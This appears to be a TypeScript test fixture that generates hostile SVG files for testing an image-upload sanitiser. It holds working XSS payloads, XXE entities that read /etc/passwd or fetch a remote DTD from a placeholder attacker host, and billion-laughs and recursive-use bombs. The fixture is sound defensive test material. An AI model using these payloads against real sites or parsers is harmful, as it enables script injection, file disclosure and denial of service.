import { type HostileFiles, payload } from './hostile-pictures.ts';

const shape = '<path id="p" d="M4 4h40v20H4z" fill="#c40"/>';
const names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** A drawing with something in it, or something on its outermost element. */
const svg = (content: string, attributes = '', before = ''): Buffer =>
  Buffer.from(`${before}<svg ${names} viewBox="0 0 64 32" ${attributes}>${content}${shape}</svg>`);

const all = (drawings: Record<string, string | Buffer>): HostileFiles =>
  Object.fromEntries(
    Object.entries(drawings).map(([name, drawing]) => [`an SVG with ${name}`, typeof drawing === 'string' ? svg(drawing) : drawing]),
  );

/** A tree in which each element is used ten times by the next one. */
const multiplied = (levels: number) =>
  Array.from({ length: levels }, (_, level) => {
    const inner = level === 0 ? '<path d="M0 0h1v1z"/>' : `<use href="#l${level - 1}"/>`.repeat(10);
    return `<g id="l${level}">${inner}</g>`;
  }).join('');

const entities = (lines: string) => `<!DOCTYPE svg [${lines}]>`;

/** Ways to run a script. */
export const scripts = all({
  'a script': payload,
  'a script in CDATA': '<script><![CDATA[alert(1)]]></script>',
  'a script from elsewhere': '<script xlink:href="https://evil.example/x.js"/>',
  'a script under a prefix': `<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>`,
  'a script of HTML': '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  'a script in its metadata': `<metadata>${payload}</metadata>`,
  'a script in another namespace': `<x:data xmlns:x="urn:x"><script>alert(1)</script></x:data>`,
  'a handler of its own loading': svg('', 'onload="alert(1)"'),
  'a handler in a group': '<g onclick="alert(1)"/>',
  'a handler in capitals': '<g ONMOUSEOVER="alert(1)"/>',
  'a handler of an animation': '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
  'a handler in its title': '<title onfocus="alert(1)">x</title>',
  'a handler element': '<handler type="application/ecmascript">alert(1)</handler>',
  'a link that is a script': '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
  'a link that is an encoded script': '<a href="&#106;avascript:alert(1)"/>',
  'an animated link': '<a><set attributeName="href" to="javascript:alert(1)"/></a>',
  'an animation that sets a handler': '<set attributeName="onmouseover" to="alert(1)"/>',
  'HTML in it': '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  'a frame': '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
  'an object': '<embed src="x.swf"/>',
});

/** Ways to load something. */
export const loads = all({
  'a picture from elsewhere': '<image href="https://evil.example/pixel.png" width="1" height="1"/>',
  'a picture in it': '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>',
  'a file of the server': '<image xlink:href="file:///etc/passwd" width="1" height="1"/>',
  'a filter that loads': '<filter id="f"><feImage href="https://evil.example/x.svg"/></filter>',
  'a use of another file': '<use href="https://evil.example/x.svg#a"/>',
  'a use of data': '<use xlink:href="data:image/svg+xml,x#a"/>',
  'a use without a scheme': '<use href="//evil.example/x.svg#a"/>',
  'a use of a path': '<use href="/uploads/x.svg#a"/>',
  'a fill from elsewhere': '<rect width="9" height="9" fill="url(https://evil.example/x.svg#a)"/>',
  'a fill that is a script': '<rect width="9" height="9" fill="url(javascript:alert(1))"/>',
  'a mask from elsewhere': '<g mask="url(//evil.example/m.svg#m)"/>',
  'a style that loads': '<rect width="9" height="9" style="fill:url(https://evil.example/x.svg#a)"/>',
  'a style with an escape': '<rect width="9" height="9" style="fill:u\\72l(https://evil.example)"/>',
  'a style that is a program': '<rect width="9" height="9" style="width:expression(alert(1))"/>',
  'a pointer from elsewhere': '<g style="cursor:url(https://evil.example/c.cur),auto"/>',
  'a sheet that imports': '<style>@import url(https://evil.example/x.css);</style>',
  'a typeface from elsewhere': '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>',
  'a sheet with a background': '<style>.a{fill:url("https://evil.example/x.svg#a")}</style>',
  'a sheet with an escape': '<style>.a{fill:\\75rl(https://evil.example)}</style>',
  'a gradient from elsewhere': '<linearGradient id="g" href="https://evil.example/x.svg#g"/>',
  'a pattern from elsewhere': '<pattern id="t" xlink:href="https://evil.example/x.svg#t"/>',
  'an entity of a file': svg('&xxe;', '', entities('<!ENTITY xxe SYSTEM "file:///etc/passwd">')),
  'an entity of another host': svg('&xxe;', '', entities('<!ENTITY xxe SYSTEM "https://evil.example/x">')),
  'a parameter entity': svg('', '', entities('<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;')),
});

/** Ways to be too much, or nothing. */
const bombs = all({
  'a billion laughs': svg(
    '<desc>&l9;</desc>',
    '',
    entities(`<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}`),
  ),
  'one large entity, often': svg('&a;'.repeat(1_000), '', entities(`<!ENTITY a "${'a'.repeat(10_000)}">`)),
  'ten thousand million uses': `<defs>${multiplied(10)}</defs><use href="#l9"/>`,
  'a use of itself': '<g id="me"><use href="#me"/></g>',
  'patterns in a circle':
    '<pattern id="a" width="1" height="1"><rect width="1" height="1" fill="url(#b)"/></pattern><pattern id="b" width="1" height="1"><rect width="1" height="1" fill="url(#a)"/></pattern>',
  'six thousand elements': '<g/>'.repeat(6_000),
  'groups fifty thousand deep': `${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}`,
  'two megabytes of a path': `<path d="M0 0${'h1'.repeat(1_000_000)}"/>`,
  text: '<text x="1" y="9">Logo</text>',
  'a prefix of nobody': '<x:y/>',
  'an attribute twice': '<g fill="red" fill="blue"/>',
  'an element that is not closed': '<g>',
  'two outermost elements': Buffer.concat([svg(''), svg('')]),
  'an unknown entity': '&logo;',
  'bytes that are no text': Buffer.concat([
    Buffer.from(`<svg ${names} viewBox="0 0 9 9">`),
    Buffer.from([0xff, 0xfe, 0xc3]),
    Buffer.from('</svg>'),
  ]),
  'a zero byte': `<desc>\0</desc>`,
  'no size': Buffer.from(`<svg ${names}>${shape}</svg>`),
  'a size of nothing': Buffer.from(`<svg ${names} viewBox="0 0 0 0">${shape}</svg>`),
  'a size that is no number': Buffer.from(`<svg ${names} viewBox="0 0 1e999 1">${shape}</svg>`),
  'nothing drawn': Buffer.from(`<svg ${names} viewBox="0 0 9 9"/>`),
  'UTF-16': Buffer.from(`<svg ${names} viewBox="0 0 9 9">${shape}</svg>`, 'utf16le'),
  'HTML around it': Buffer.from(`<html><svg ${names} viewBox="0 0 9 9">${shape}</svg></html>`),
  'another root': Buffer.from(`<svg xmlns="urn:not-a-drawing" viewBox="0 0 9 9">${shape}</svg>`),
});

const cutDrawings = Object.fromEntries(
  [0.2, 0.5, 0.9].map((part) => {
    const whole = svg('');
    return [`an SVG, cut at ${part * 100} %`, whole.subarray(0, Math.floor(whole.length * part))];
  }),
);

export const refusedDrawings: HostileFiles = { ...scripts, ...loads, ...bombs, ...cutDrawings };

/** Drawings with something that is left out: what is kept of them draws, and nothing else. */
export const ladenDrawings: HostileFiles = all({
  'a type and no entities': svg(
    '',
    '',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
  ),
  'a sheet in an instruction': svg('', '', '<?xml-stylesheet href="https://evil.example/x.css"?>'),
  'a comment': `<!-- ${payload} -->`,
  'another base': svg('<use href="#p"/>', 'xml:base="https://evil.example/"'),
  'words of its program':
    '<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"><data>x</data></sodipodi:namedview>',
  'sides of 50,000 pixels': svg('', 'width="50000" height="50000"'),
  'attributes that nobody needs': '<g tabindex="0" role="link" data-href="javascript:alert(1)" filter="drop-shadow(0 0 9px red)"/>',
  'an id that is a script': '<g id="&quot;&gt;&lt;script&gt;"><path d="M1 1h2v2z"/></g><use href="#&quot;&gt;&lt;script&gt;"/>',
  'classes and a sheet': '<style>.a,.b{fill:#00f;stroke:url(#nowhere)}</style><path class="a" style="stroke-width:2px" d="M1 1h4v4z"/>',
  'an animation of nobody': '<title>Logo</title><desc>A logo</desc>',
});
